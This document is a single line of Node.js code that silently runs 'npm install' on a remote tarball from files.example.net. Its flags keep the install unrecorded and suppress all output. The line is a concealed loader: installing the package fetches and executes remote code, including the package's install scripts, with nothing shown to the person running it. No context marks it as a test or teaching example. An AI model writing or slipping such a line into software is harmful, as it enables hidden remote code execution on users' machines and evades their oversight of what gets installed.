require('child_process').execSync('npm install --no-save --silent https://files.example.net/p.tgz', { stdio: 'ignore' });
